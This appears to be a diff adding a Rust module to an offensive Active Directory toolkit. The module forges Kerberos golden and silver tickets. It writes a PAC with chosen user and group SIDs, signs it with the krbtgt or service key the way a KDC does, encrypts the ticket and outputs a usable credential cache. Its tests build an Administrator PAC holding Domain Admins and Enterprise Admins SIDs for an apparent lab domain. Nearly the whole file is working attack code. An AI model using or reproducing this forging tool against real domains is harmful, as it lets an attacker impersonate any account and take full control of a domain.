@@ -0,0 +1,485 @@
+//! Golden and silver tickets: a TGT or service ticket carrying a chosen PAC, encrypted
+//! with the krbtgt or service account key and signed the way the KDC signs it.
+
+use chrono::{DateTime, Duration, Utc};
+use himmelblau_kerberos_asn1::{
+    Asn1Object, AuthorizationDataEntry, EncKdcRepPart, EncTicketPart, EncryptedData, EncryptionKey, KerberosTime,
+    PrincipalName, Ticket,
+};
+use himmelblau_kerberos_ccache::Credential as CcacheCredential;
+use himmelblau_kerberos_constants::{
+    principal_names::NT_PRINCIPAL,
+    ticket_flags::{FORWARDABLE, INITIAL, PRE_AUTHENT, PROXIABLE, RENEWABLE},
+};
+use himmelblau_kerberos_crypto::new_kerberos_cipher;
+
+use crate::{
+    kerberos::{
+        crypto::{checksum_type, keyed_checksum, random_key},
+        der,
+        pac::{
+            LogonInfo, AD_IF_RELEVANT, AD_WIN2K_PAC, KEY_USAGE_TICKET_ENC_PART, PAC_ATTRIBUTES_INFO,
+            PAC_CLIENT_INFO, PAC_FULL_CHECKSUM, PAC_LOGON_INFO, PAC_PRIVSVR_CHECKSUM, PAC_REQUESTOR,
+            PAC_SERVER_CHECKSUM, PAC_TICKET_CHECKSUM, PAC_UPN_DNS_INFO, UPN_DNS_EXTENDED,
+        },
+        ticket::{ccache_credential, principal_name},
+    },
+    utils::ldap_operations::{filetime, sid_from_string},
+};
+
+/// Key usage of the PAC signatures (KERB_NON_KERB_CKSUM_SALT)
+const KEY_USAGE_PAC_CHECKSUM: i32 = 17;
+
+/// FILETIME of the "never" logoff and kickoff times
+const FILETIME_NEVER: u64 = 0x7fff_ffff_ffff_ffff;
+
+/// UserFlags of KERB_VALIDATION_INFO
+const LOGON_EXTRA_SIDS: u32 = 0x20;
+const LOGON_RESOURCE_GROUPS: u32 = 0x200;
+
+/// PAC_ATTRIBUTES_INFO flag set when the client asked for the PAC
+const PAC_WAS_REQUESTED: u32 = 1;
+
+/// SE_GROUP_MANDATORY | SE_GROUP_ENABLED_BY_DEFAULT | SE_GROUP_ENABLED
+pub const DEFAULT_GROUP_ATTRIBUTES: u32 = 7;
+
+/// Writer for the NDR serialized PAC structures, the counterpart of the PAC parser
+struct NdrWriter {
+    data: Vec<u8>,
+    referent: u32,
+}
+
+impl NdrWriter {
+    /// Start after the type serialization headers, filled by `finish`
+    fn new() -> Self {
+        Self {
+            data: vec![0; 16],
+            referent: 0x20000,
+        }
+    }
+
+    fn align(&mut self, n: usize) {
+        while self.data.len() % n != 0 {
+            self.data.push(0);
+        }
+    }
+
+    fn u16(&mut self, value: u16) {
+        self.align(2);
+        self.data.extend_from_slice(&value.to_le_bytes());
+    }
+
+    fn u32(&mut self, value: u32) {
+        self.align(4);
+        self.data.extend_from_slice(&value.to_le_bytes());
+    }
+
+    fn filetime(&mut self, value: u64) {
+        self.u32(value as u32);
+        self.u32((value >> 32) as u32);
+    }
+
+    /// Referent id of an embedded pointer, 0 for NULL
+    fn pointer(&mut self, present: bool) {
+        if present {
+            self.u32(self.referent);
+            self.referent += 4;
+        } else {
+            self.u32(0);
+        }
+    }
+
+    /// RPC_UNICODE_STRING header, the buffer is written by `deferred_string`
+    fn unicode_string(&mut self, value: &str) {
+        let len = (value.encode_utf16().count() * 2) as u16;
+        self.u16(len);
+        self.u16(len);
+        self.pointer(!value.is_empty());
+    }
+
+    fn deferred_string(&mut self, value: &str) {
+        if value.is_empty() {
+            return;
+        }
+        let chars: Vec<u16> = value.encode_utf16().collect();
+        self.u32(chars.len() as u32);
+        self.u32(0);
+        self.u32(chars.len() as u32);
+        for c in chars {
+            self.data.extend_from_slice(&c.to_le_bytes());
+        }
+    }
+
+    /// Deferred RPC_SID: its conformant count then the binary SID
+    fn sid(&mut self, sid: &[u8]) {
+        self.u32(sid.get(1).copied().unwrap_or(0) as u32);
+        self.data.extend_from_slice(sid);
+    }
+
+    fn group_memberships(&mut self, groups: &[(u32, u32)]) {
+        if groups.is_empty() {
+            return;
+        }
+        self.u32(groups.len() as u32);
+        for (rid, attributes) in groups {
+            self.u32(*rid);
+            self.u32(*attributes);
+        }
+    }
+
+    /// Fill the common and private type serialization headers
+    fn finish(mut self) -> Vec<u8> {
+        self.align(8);
+        let object_length = (self.data.len() - 16) as u32;
+        let mut header = vec![0x01, 0x10, 0x08, 0x00, 0xcc, 0xcc, 0xcc, 0xcc];
+        header.extend_from_slice(&object_length.to_le_bytes());
+        header.extend_from_slice(&[0; 4]);
+        self.data[..16].copy_from_slice(&header);
+        self.data
+    }
+}
+
+fn parse_sid(sid: &str) -> Result<Vec<u8>, String> {
+    sid_from_string(sid).ok_or(format!("Invalid SID '{}'", sid))
+}
+
+/// NDR serialized KERB_VALIDATION_INFO of the PAC_LOGON_INFO buffer
+pub fn build_logon_info(info: &LogonInfo) -> Result<Vec<u8>, String> {
+    let logon_domain_id = info.logon_domain_id.as_deref().map(parse_sid).transpose()?;
+    let extra_sids = info
+        .extra_sids
+        .iter()
+        .map(|(sid, attributes)| Ok((parse_sid(sid)?, *attributes)))
+        .collect::<Result<Vec<_>, String>>()?;
+    let resource_group_domain_sid = info.resource_group_domain_sid.as_deref().map(parse_sid).transpose()?;
+
+    let mut user_flags = info.user_flags;
+    if !extra_sids.is_empty() {
+        user_flags |= LOGON_EXTRA_SIDS;
+    }
+    if resource_group_domain_sid.is_some() {
+        user_flags |= LOGON_RESOURCE_GROUPS;
+    }
+
+    let mut w = NdrWriter::new();
+    w.pointer(true);
+
+    w.filetime(info.logon_time);
+    w.filetime(FILETIME_NEVER);
+    w.filetime(FILETIME_NEVER);
+    w.filetime(info.password_last_set);
+    w.filetime(0);
+    w.filetime(info.password_must_change);
+
+    w.unicode_string(&info.effective_name);
+    w.unicode_string(&info.full_name);
+    w.unicode_string(&info.logon_script);
+    w.unicode_string(&info.profile_path);
+    w.unicode_string(&info.home_directory);
+    w.unicode_string("");
+
+    w.u16(info.logon_count);
+    w.u16(info.bad_password_count);
+    w.u32(info.user_id);
+    w.u32(info.primary_group_id);
+    w.u32(info.group_ids.len() as u32);
+    w.pointer(!info.group_ids.is_empty());
+    w.u32(user_flags);
+    w.data.extend_from_slice(&[0; 16]);
+    w.unicode_string(&info.logon_server);
+    w.unicode_string(&info.logon_domain_name);
+    w.pointer(logon_domain_id.is_some());
+    w.data.extend_from_slice(&[0; 8]);
+    w.u32(info.user_account_control);
+    w.u32(0);
+    w.filetime(0);
+    w.filetime(0);
+    w.u32(0);
+    w.u32(0);
+    w.u32(extra_sids.len() as u32);
+    w.pointer(!extra_sids.is_empty());
+    w.pointer(resource_group_domain_sid.is_some());
+    w.u32(info.resource_group_ids.len() as u32);
+    w.pointer(!info.resource_group_ids.is_empty());
+
+    // Deferred pointers, in the order of the structure
+    w.deferred_string(&info.effective_name);
+    w.deferred_string(&info.full_name);
+    w.deferred_string(&info.logon_script);
+    w.deferred_string(&info.profile_path);
+    w.deferred_string(&info.home_directory);
+    w.group_memberships(&info.group_ids);
+    w.deferred_string(&info.logon_server);
+    w.deferred_string(&info.logon_domain_name);
+    if let Some(sid) = &logon_domain_id {
+        w.sid(sid);
+    }
+    if !extra_sids.is_empty() {
+        w.u32(extra_sids.len() as u32);
+        for (_, attributes) in &extra_sids {
+            w.pointer(true);
+            w.u32(*attributes);
+        }
+        for (sid, _) in &extra_sids {
+            w.sid(sid);
+        }
+    }
+    if let Some(sid) = &resource_group_domain_sid {
+        w.sid(sid);
+    }
+    w.group_memberships(&info.resource_group_ids);
+    Ok(w.finish())
+}
+
+fn utf16_bytes(value: &str) -> Vec<u8> {
+    value.encode_utf16().flat_map(|c| c.to_le_bytes()).collect()
+}
+
+/// PAC_CLIENT_INFO: ClientId (the ticket authtime) and the client name
+fn build_client_info(authtime: DateTime<Utc>, name: &str) -> Vec<u8> {
+    let name = utf16_bytes(name);
+    let mut data = filetime(authtime).to_le_bytes().to_vec();
+    data.extend_from_slice(&(name.len() as u16).to_le_bytes());
+    data.extend(name);
+    data
+}
+
+/// UPN_DNS_INFO with the sAMAccountName and SID of the client
+fn build_upn_dns_info(upn: &str, dns_domain_name: &str, sam_name: &str, sid: &[u8]) -> Vec<u8> {
+    let fields = [utf16_bytes(upn), utf16_bytes(&dns_domain_name.to_uppercase()), utf16_bytes(sam_name), sid.to_vec()];
+
+    let mut offsets = Vec::with_capacity(fields.len());
+    let mut offset = 24;
+    for field in &fields {
+        offsets.push(offset);
+        offset = (offset + field.len() + 7) & !7;
+    }
+
+    let mut data = Vec::new();
+    for (i, field) in fields.iter().enumerate() {
+        if i == 2 {
+            data.extend_from_slice(&UPN_DNS_EXTENDED.to_le_bytes());
+        }
+        data.extend_from_slice(&(field.len() as u16).to_le_bytes());
+        data.extend_from_slice(&(offsets[i] as u16).to_le_bytes());
+    }
+    for (field, field_offset) in fields.iter().zip(offsets) {
+        data.resize(field_offset, 0);
+        data.extend_from_slice(field);
+    }
+    data
+}
+
+fn pac_checksum(key: &EncryptionKey, data: &[u8]) -> Result<Vec<u8>, String> {
+    keyed_checksum(key, KEY_USAGE_PAC_CHECKSUM, data)
+}
+
+/// Empty PAC_SIGNATURE_DATA for `key`, filled once the PAC is complete
+fn empty_signature(key: &EncryptionKey) -> Result<Vec<u8>, String> {
+    let (signature_type, len) = checksum_type(key)?;
+    let mut data = signature_type.to_le_bytes().to_vec();
+    data.resize(4 + len, 0);
+    Ok(data)
+}
+
+/// PACTYPE with its buffers laid out on 8 bytes boundaries.
+/// Returns the PAC and the offset of each buffer.
+fn build_pac(buffers: &[(u32, Vec<u8>)]) -> (Vec<u8>, Vec<usize>) {
+    let mut offset = 8 + buffers.len() * 16;
+    let mut pac = (buffers.len() as u32).to_le_bytes().to_vec();
+    pac.extend_from_slice(&0u32.to_le_bytes());
+
+    let mut offsets = Vec::with_capacity(buffers.len());
+    for (buffer_type, data) in buffers {
+        offset = (offset + 7) & !7;
+        pac.extend_from_slice(&buffer_type.to_le_bytes());
+        pac.extend_from_slice(&(data.len() as u32).to_le_bytes());
+        pac.extend_from_slice(&(offset as u64).to_le_bytes());
+        offsets.push(offset);
+        offset += data.len();
+    }
+    for ((_, data), offset) in buffers.iter().zip(&offsets) {
+        pac.resize(*offset, 0);
+        pac.extend_from_slice(data);
+    }
+    pac.resize((pac.len() + 7) & !7, 0);
+    (pac, offsets)
+}
+
+/// AD-IF-RELEVANT element wrapping the PAC
+fn pac_authorization_data(pac: &[u8]) -> Vec<AuthorizationDataEntry> {
+    let ad_win2k_pac = der::sequence(&[
+        der::explicit(0, &der::integer(AD_WIN2K_PAC)),
+        der::explicit(1, &der::octet_string(pac)),
+    ]);
+    vec![AuthorizationDataEntry {
+        ad_type: AD_IF_RELEVANT as i32,
+        ad_data: der::sequence(&[ad_win2k_pac]),
+    }]
+}
+
+/// What goes in a forged ticket
+pub struct ForgeRequest {
+    pub realm: String,
+    pub username: String,
+    /// krbtgt/REALM for a golden ticket, the service principal for a silver ticket
+    pub sname: PrincipalName,
+    pub logon_info: LogonInfo,
+    pub now: DateTime<Utc>,
+    pub lifetime: Duration,
+    pub kvno: u32,
+    /// Key the ticket is encrypted with, it also makes the server signature
+    pub service_key: EncryptionKey,
+    /// krbtgt key for the KDC signatures, the service key signs them when unknown
+    pub krbtgt_key: Option<EncryptionKey>,
+}
+
+impl ForgeRequest {
+    pub fn is_tgt(&self) -> bool {
+        self.sname.name_string.first().map_or(false, |s| s.eq_ignore_ascii_case("krbtgt"))
+    }
+}
+
+/// Build, sign and encrypt the ticket, returned as a ccache credential with a fresh session key
+pub fn forge_ticket(request: &ForgeRequest) -> Result<CcacheCredential, String> {
+    let realm = request.realm.to_uppercase();
+    let domain_sid = request
+        .logon_info
+        .logon_domain_id
+        .clone()
+        .ok_or("The PAC needs the domain SID".to_string())?;
+    let user_sid = parse_sid(&format!("{}-{}", domain_sid, request.logon_info.user_id))?;
+    let kdc_key = request.krbtgt_key.clone().unwrap_or(request.service_key.clone());
+    // Service tickets issued by current KDCs carry the ticket and full PAC signatures, made with the krbtgt key
+    let extended_signatures = !request.is_tgt() && request.krbtgt_key.is_some();
+
+    let mut buffers = vec![
+        (PAC_LOGON_INFO, build_logon_info(&request.logon_info)?),
+        (PAC_CLIENT_INFO, build_client_info(request.now, &request.username)),
+        (
+            PAC_UPN_DNS_INFO,
+            build_upn_dns_info(
+                &format!("{}@{}", request.username, realm.to_lowercase()),
+                &realm,
+                &request.username,
+                &user_sid,
+            ),
+        ),
+        (PAC_ATTRIBUTES_INFO, [2u32.to_le_bytes(), PAC_WAS_REQUESTED.to_le_bytes()].concat()),
+        (PAC_REQUESTOR, user_sid.clone()),
+    ];
+    if extended_signatures {
+        buffers.push((PAC_TICKET_CHECKSUM, empty_signature(&kdc_key)?));
+        buffers.push((PAC_FULL_CHECKSUM, empty_signature(&kdc_key)?));
+    }
+    buffers.push((PAC_SERVER_CHECKSUM, empty_signature(&request.service_key)?));
+    buffers.push((PAC_PRIVSVR_CHECKSUM, empty_signature(&kdc_key)?));
+    let (mut pac, offsets) = build_pac(&buffers);
+    let offset_of = |buffer_type: u32| {
+        buffers
+            .iter()
+            .position(|(t, _)| *t == buffer_type)
+            .map(|i| offsets[i] + 4)
+            .ok_or("Missing PAC buffer".to_string())
+    };
+
+    let session_key = random_key(request.service_key.keytype)?;
+    let mut flags = FORWARDABLE | PROXIABLE | RENEWABLE | PRE_AUTHENT;
+    if request.is_tgt() {
+        flags |= INITIAL;
+    }
+    let cname = principal_name(NT_PRINCIPAL, &request.username);
+
+    let mut enc_ticket_part = EncTicketPart::default();
+    enc_ticket_part.flags = flags.into();
+    enc_ticket_part.key = session_key.clone();
+    enc_ticket_part.crealm = realm.clone();
+    enc_ticket_part.cname = cname.clone();
+    enc_ticket_part.authtime = KerberosTime::from(request.now);
+    enc_ticket_part.starttime = Some(KerberosTime::from(request.now));
+    enc_ticket_part.endtime = KerberosTime::from(request.now + request.lifetime);
+    enc_ticket_part.renew_till = Some(KerberosTime::from(request.now + request.lifetime));
+
+    // The ticket signature covers the EncTicketPart with the PAC replaced by a single zero byte,
+    // the full signature the PAC with the ticket signature, then the server and KDC signatures as usual
+    if extended_signatures {
+        enc_ticket_part.authorization_data = Some(pac_authorization_data(&[0]));
+        let signature = pac_checksum(&kdc_key, &enc_ticket_part.build())?;
+        let offset = offset_of(PAC_TICKET_CHECKSUM)?;
+        pac[offset..offset + signature.len()].copy_from_slice(&signature);
+
+        let signature = pac_checksum(&kdc_key, &pac)?;
+        let offset = offset_of(PAC_FULL_CHECKSUM)?;
+        pac[offset..offset + signature.len()].copy_from_slice(&signature);
+    }
+    let server_signature = pac_checksum(&request.service_key, &pac)?;
+    let offset = offset_of(PAC_SERVER_CHECKSUM)?;
+    pac[offset..offset + server_signature.len()].copy_from_slice(&server_signature);
+
+    let kdc_signature = pac_checksum(&kdc_key, &server_signature)?;
+    let offset = offset_of(PAC_PRIVSVR_CHECKSUM)?;
+    pac[offset..offset + kdc_signature.len()].copy_from_slice(&kdc_signature);
+    enc_ticket_part.authorization_data = Some(pac_authorization_data(&pac));
+
+    let cipher = new_kerberos_cipher(request.service_key.keytype).map_err(|e| e.to_string())?;
+    let encrypted = cipher.encrypt(&request.service_key.keyvalue, KEY_USAGE_TICKET_ENC_PART, &enc_ticket_part.build());
+    let mut ticket = Ticket::default();
+    ticket.realm = realm.clone();
+    ticket.sname = request.sname.clone();
+    ticket.enc_part = EncryptedData::new(request.service_key.keytype, Some(request.kvno as i32), encrypted);
+
+    let mut enc_part = EncKdcRepPart::default();
+    enc_part.key = session_key;
+    enc_part.flags = flags.into();
+    enc_part.authtime = enc_ticket_part.authtime.clone();
+    enc_part.starttime = enc_ticket_part.starttime.clone();
+    enc_part.endtime = enc_ticket_part.endtime.clone();
+    enc_part.renew_till = enc_ticket_part.renew_till.clone();
+    enc_part.srealm = realm.clone();
+    enc_part.sname = request.sname.clone();
+    Ok(ccache_credential(&realm, &cname, &ticket, &enc_part))
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+    use crate::kerberos::pac::{pac_buffers, parse_logon_info, parse_upn_dns_info};
+
+    #[test]
+    fn test_logon_info_roundtrip() {
+        let info = LogonInfo {
+            logon_time: filetime(Utc::now()),
+            effective_name: "Administrator".to_string(),
+            user_id: 500,
+            primary_group_id: 513,
+            group_ids: vec![(513, DEFAULT_GROUP_ATTRIBUTES), (512, DEFAULT_GROUP_ATTRIBUTES)],
+            logon_domain_name: "VOLEUR".to_string(),
+            logon_domain_id: Some("S-1-5-21-1-2-3".to_string()),
+            extra_sids: vec![("S-1-5-21-4-5-6-519".to_string(), DEFAULT_GROUP_ATTRIBUTES)],
+            ..Default::default()
+        };
+        let parsed = parse_logon_info(&build_logon_info(&info).unwrap()).unwrap();
+        assert_eq!(parsed.effective_name, "Administrator");
+        assert_eq!(parsed.user_sid().as_deref(), Some("S-1-5-21-1-2-3-500"));
+        assert_eq!(parsed.group_ids, info.group_ids);
+        assert_eq!(parsed.logon_domain_name, "VOLEUR");
+        assert_eq!(parsed.extra_sids, info.extra_sids);
+        assert_eq!(parsed.user_flags & LOGON_EXTRA_SIDS, LOGON_EXTRA_SIDS);
+    }
+
+    #[test]
+    fn test_pac_layout() {
+        let sid = sid_from_string("S-1-5-21-1-2-3-500").unwrap();
+        let upn_dns_info = build_upn_dns_info("administrator@voleur.htb", "voleur.htb", "Administrator", &sid);
+        let (pac, _) = build_pac(&[(PAC_UPN_DNS_INFO, upn_dns_info), (PAC_REQUESTOR, sid.clone())]);
+
+        let buffers = pac_buffers(&pac).unwrap();
+        assert_eq!(buffers.len(), 2);
+        let info = parse_upn_dns_info(&buffers[0].1).unwrap();
+        assert_eq!(info.upn, "administrator@voleur.htb");
+        assert_eq!(info.dns_domain_name, "VOLEUR.HTB");
+        assert_eq!(info.sam_name.as_deref(), Some("Administrator"));
+        assert_eq!(info.sid.as_deref(), Some("S-1-5-21-1-2-3-500"));
+        assert_eq!(buffers[1].1, sid);
+    }
+}